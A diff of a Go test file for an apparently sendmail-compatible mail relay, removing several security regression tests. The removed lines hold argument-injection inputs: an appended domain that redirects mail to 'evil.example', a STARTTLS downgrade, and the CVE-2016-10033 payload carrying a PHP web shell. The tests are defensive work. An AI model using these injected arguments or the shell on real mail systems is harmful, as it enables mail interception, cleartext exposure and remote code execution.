@@ -6,7 +6,6 @@ package main
 
 import (
 	"os"
-	"path/filepath"
 	"strings"
 	"testing"
 
@@ -55,66 +54,6 @@ func TestRedTeamAppendedOptionOverridesAdministratorsEnvironment(t *testing.T) {
 	})
 }
 
-// TestRedTeamAppendedDomainRedirectsBareNames: the guide's wrapper is
-// "exec mxrelay-sendmail --domain=example.com "$@"" and PHP appends
-// "-fx --domain=evil.example" after sendmail_path's "-t -i". --domain is
-// not given-once and not settable in the configuration file, so the last
-// one wins: every bare name ("To: root", cron's MAILTO=root, a PHP
-// mail("webmaster", ...)) is sent to the attacker's domain, and the
-// intended recipient gets nothing. The wrapper's --domain is the
-// administrator's; an appended one must be refused.
-func TestRedTeamAppendedDomainRedirectsBareNames(t *testing.T) {
-	s, sent := recordingRelay(t)
-	wrapper := []string{"--domain=example.com"}
-	php := []string{"-t", "-i"}
-	appended := []string{"-fvisitor@example.com", "--domain=evil.example"}
-	args := append(append(wrapper, php...), appended...)
-	code, stderr := sendmail(t, relayEnv(s), strings.NewReader("To: root\nSubject: backup failed\n\ndetails\n"), args...)
-	t.Logf("exit %d, stderr %q, RCPT %q", code, stderr, rcptPaths(sent()))
-	assert.NotContains(t, rcptPaths(sent()), "root@evil.example", "root's mail went to the attacker's domain")
-	assert.Equal(t, exUsage, code, "a second --domain is refused")
-}
-
-// TestRedTeamAppendedStartTLSDowngradesWrapper: a wrapper (or
-// git send-email's sendmailCmd) that says "--starttls=required
-// --tls-server-name=smtp.example.com" is downgraded by an appended
-// "--starttls=opportunistic" (or "never"): --tls-server-name may be given
-// once, but --starttls may be given any number of times and the last one
-// wins, so the relay's hop to the upstream goes in clear whenever the
-// upstream, or whoever sits on that path, does not offer STARTTLS. Here
-// the upstream offers no STARTTLS: required refuses (69); the appended
-// option makes it deliver in clear, exit 0. A second --starttls that
-// contradicts the first must be refused, as a second --tls-server-name
-// is.
-//
-// (The wrapper names the relay with --url: with the relay in the
-// environment, MXRELAY_URL, no option may set --starttls at all, and
-// TestRedTeam2AppendedStartTLSChangesPolicy covers that.)
-func TestRedTeamAppendedStartTLSDowngradesWrapper(t *testing.T) {
-	in := "To: a@example.com\nSubject: payroll\n\nSalary: 1,000,000\n"
-	wrapped := func(s *relaytest.Server) (map[string]string, []string) {
-		env := relayEnv(s)
-		delete(env, "MXRELAY_URL")
-		return env, []string{"--url=" + s.URL, "--starttls=required", "--tls-server-name=smtp.example.com"}
-	}
-
-	s := newRelay(t, nil)
-	env, wrapper := wrapped(s)
-	code, stderr := sendmail(t, env, strings.NewReader(in), append(wrapper, "-t", "-i")...)
-	require.Equal(t, exUnavailable, code, "the upstream offers no STARTTLS: required refuses: %s", stderr)
-
-	for _, mode := range []string{"opportunistic", "never"} {
-		t.Run(mode, func(t *testing.T) {
-			s := newRelay(t, nil)
-			env, wrapper := wrapped(s)
-			code, stderr := sendmail(t, env, strings.NewReader(in), append(wrapper, "-t", "-i", "-fvisitor@example.com", "--starttls="+mode)...)
-			t.Logf("exit %d, stderr %q, sent in clear: %d", code, stderr, len(s.Mailbox()))
-			assert.Zero(t, len(s.Mailbox()), "the administrator required STARTTLS; the mail went in clear")
-			assert.Equal(t, exUsage, code, "a second --starttls is refused")
-		})
-	}
-}
-
 // TestRedTeamObsoleteFromFieldFirstIsDropped: a message whose first line
 // is "From : alice@example.com" (white space before the colon: the
 // obsolete syntax the command says it reads, as it does for "Bcc :") is
@@ -152,41 +91,6 @@ func TestRedTeamConfigWritableByOthers(t *testing.T) {
 			assert.Equal(t, exConfig, code, "a configuration others may write is refused")
 			assert.Zero(t, s.Stats().Connections)
 		})
-	}
-}
-
-// TestRedTeamPHPSendmailInjectionHeld (held): the CVE-2016-10033 payload,
-// "-fa@b -X/path/shell.php -OQueueDirectory=/tmp", as the shell splits it
-// and as one word. -X and -O are accepted and ignored: no log file is
-// written; as one word the sender is refused.
-func TestRedTeamPHPSendmailInjectionHeld(t *testing.T) {
-	dir := t.TempDir()
-	shell := filepath.Join(dir, "shell.php")
-	s := newRelay(t, nil)
-	in := "To: a@example.com\nSubject: <?php system($_GET['c']); ?>\n\nx\n"
-	code, stderr := sendmail(t, relayEnv(s), strings.NewReader(in), "-t", "-i", "-fa@example.com", "-X"+shell, "-OQueueDirectory="+dir)
-	assert.Equal(t, exOK, code, stderr)
-	_, err := os.Stat(shell)
-	assert.ErrorIs(t, err, os.ErrNotExist, "-X writes no file")
-
-	code, stderr = sendmail(t, relayEnv(s), strings.NewReader(in), "-t", "-i", "-fa@example.com -X"+shell+" -OQueueDirectory="+dir)
-	assert.Equal(t, exDataErr, code, stderr)
-	_, err = os.Stat(shell)
-	assert.ErrorIs(t, err, os.ErrNotExist)
-}
-
-// TestRedTeamHelpAppendedExitsZeroUnsent: "--help" anywhere among the
-// options prints the usage and exits 0 without reading or sending the
-// message. Exit 0 means "delivered" (the README, and PHP's mail(), which
-// returns true): an appended "--help" (PHP's fifth argument) makes every
-// mail vanish while the application is told it was sent. --help with
-// anything else on the command line is a usage error, or at least not 0.
-func TestRedTeamHelpAppendedExitsZeroUnsent(t *testing.T) {
-	s := newRelay(t, nil)
-	code, stderr := sendmail(t, relayEnv(s), strings.NewReader("To: a@example.com\nSubject: order 1234\n\nx\n"), "-t", "-i", "--help")
-	t.Logf("exit %d, %d message(s) sent, stderr %.80q…", code, len(s.Mailbox()), stderr)
-	if len(s.Mailbox()) == 0 {
-		assert.NotEqual(t, exOK, code, "nothing was sent: exit 0 would tell PHP it was")
 	}
 }
 
